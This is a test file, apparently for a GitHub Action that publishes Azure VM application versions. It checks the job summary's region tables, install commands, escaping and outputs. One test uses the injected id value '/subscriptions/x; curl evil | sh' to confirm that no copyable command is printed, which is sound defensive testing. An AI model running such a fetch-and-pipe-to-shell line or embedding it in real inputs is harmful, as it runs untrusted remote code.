import { outputNames, outputsOf } from "../../action/outputs.ts";
import { summaryOf } from "../../action/summary.ts";
import { aRegion, aReport } from "./fake-world.ts";

const run = {
  id: "4711",
  attempt: "1",
  claims: { runUrl: "https://github.com/o/r/actions/runs/4711", commit: "0123456789abcdef" },
};
const problem = { code: "storage-role", message: "may not <b>write</b>\nhere", nextStep: "Ask *them*." };

describe("summaryOf", () => {
  it("shows the report's regions", () => {
    const report = aReport({ outcome: "published", regions: [aRegion("eastus")] });

    expect(summaryOf({ report }, undefined, run)).toMatch(/\| eastus \| ✅ Completed \| 42 s \|/);
  });

  it("tells where a version is, how long it took, and the line that installs it", () => {
    const id =
      "/subscriptions/s-1/resourceGroups/g/providers/Microsoft.Compute/galleries/x/applications/a/versions/1.2.0";
    const times = { startedAt: "2026-01-01T00:00:00Z", endedAt: "2026-01-01T00:04:12Z" };
    const regions = [aRegion("eastus"), aRegion("westus")];
    const report = aReport({ outcome: "published", versionId: id, homeRegion: "eastus", regions, ...times });

    const text = summaryOf(
      { application: "a", version: "1.2.0", report, cloud: "AzureChinaCloud" },
      undefined,
      run,
    );

    expect(text).toMatch(/^### ✅ a 1\.2\.0 is published\n/);
    expect(text).toContain("**In all 2 regions after 4 min 12 s**");
    expect(text).toContain("[run 4711, attempt 1](https://github.com/o/r/actions/runs/4711)");
    expect(text).toContain("| eastus (home) | ✅ Completed | 42 s |");
    expect(text).toContain(
      `az cloud set --name AzureChinaCloud\naz vm application set --resource-group "$GROUP" --name "$VM" --app-version-ids ${id}\n`,
    );
  });

  it("gives nobody a command to copy that a stranger's id stands in", () => {
    const report = aReport({ outcome: "published", versionId: "/subscriptions/x; curl evil | sh" });

    expect(summaryOf({ report }, undefined, run)).not.toContain("az vm application set");
  });

  it.each([
    [
      { outcome: "publishing" },
      { code: "still-publishing", message: "m", nextStep: "n" },
      "### ⏳ a: still publishing",
    ],
    [{ outcome: "partly-published" }, undefined, "### ⚠️ a: partly-published"],
    [
      { outcome: "partly-published" },
      { code: "x", message: "m", nextStep: "n" },
      "### ❌ a: partly-published",
    ],
    [{ outcome: "published" }, undefined, "### ✅ a is published"],
  ] as const)("begins the summary of %j with %s", (change, reason, title) => {
    const text = summaryOf({ application: "a", report: aReport(change) }, reason, run);

    expect(text.split("\n")[0]).toBe(title);
  });

  it("shows what failed first, and its reason below the table", () => {
    const failed = aRegion("westus", { state: "Failed", details: "internal | error" });
    const report = aReport({
      outcome: "partly-published",
      regions: [aRegion("eastus"), failed],
      notes: ["n"],
    });

    expect(summaryOf({ report }, problem, run)).toContain(
      "| westus | ❌ Failed | 42 s |\n| eastus | ✅ Completed | 42 s |\n\n- **westus**: internal \\| error\n- n\n",
    );
  });

  it.each([
    ["a job that was content with it", undefined, true],
    ["a job that failed", problem, false],
  ])("shows %s how to install what is in some regions: %#", (_, reason, isShown) => {
    const versionId =
      "/subscriptions/s-1/resourceGroups/g/providers/Microsoft.Compute/galleries/x/applications/a/versions/1.2.0";
    const report = aReport({ outcome: "partly-published", versionId, regions: [aRegion("eastus")] });

    expect(summaryOf({ report }, reason, run).includes("az vm application set")).toBe(isShown);
  });

  it("leaves out what would make GitHub drop it as a whole", () => {
    const report = aReport({ outcome: "publishing", notes: ["é".repeat(600_000)] });
    const text = summaryOf({ application: "a", report }, undefined, run);

    expect(text).toMatch(/^### ⏳ a: publishing\n[^]*too long for a job summary\.\n$/);
    expect(Buffer.byteLength(text)).toBeLessThan(1000);
  });

  it("sets what is to be copied as code, its indent kept", () => {
    const text = summaryOf(
      {},
      { ...problem, nextStep: "Add:\n    permissions:\n      id-token: write" },
      run,
    );

    expect(text).toContain(
      "> **Next step:** Add:  \n> <code>permissions:</code>  \n> &nbsp;&nbsp;<code>id-token: write</code>\n",
    );
  });

  it("says what becomes of a release that nobody waits for", () => {
    const facts = {
      application: "a",
      version: "1.2.0",
      submission: "run-1-1-00000000",
      outcome: "waiting",
    } as const;

    expect(summaryOf(facts, undefined, run)).toMatch(
      /^### ⏳ a 1\.2\.0: handed over\n[^]*> \[!NOTE\]\n> The pipeline/,
    );
  });

  it("tells a problem that came before any report, harmlessly", () => {
    const text = summaryOf({ application: "flooperapp", version: "1.2.0" }, problem, run);

    expect(text).toMatch(/^### ❌ flooperapp 1\.2\.0: not published\n/);
    expect(text).toContain("> [!CAUTION]\n> may not &lt;b&gt;write&lt;/b&gt;  \n> here\n");
    expect(text).toContain("**Next step:** Ask \\*them\\*.");
  });

  it("tells a problem beside the report, but not the report's own twice", () => {
    const report = aReport({ outcome: "refused", reason: { code: "x", message: "because", nextStep: "do" } });

    expect(summaryOf({ report }, { ...problem, code: "x" }, run).match(/Next step/g)).toHaveLength(1);
    expect(summaryOf({ report: aReport({ outcome: "publishing" }) }, problem, run)).toContain("Next step");
  });
});

describe("outputsOf", () => {
  it("sets every output when nothing is known", () => {
    const outputs = outputsOf({});

    expect(Object.keys(outputs)).toEqual([...outputNames]);
    expect(Object.values(outputs)).toEqual(["", "", "", "", "", "", "", "[]", "{}"]);
  });

  it("believes the report before the run's own view", () => {
    const report = aReport({
      outcome: "published",
      versionId: "/v",
      sha256: "b".repeat(64),
      blobUrl: "https://a/b",
    });

    expect(outputsOf({ outcome: "waiting", report })).toMatchObject({
      outcome: "published",
      "version-id": "/v",
      "blob-url": "https://a/b",
      sha256: "b".repeat(64),
    });
  });
});
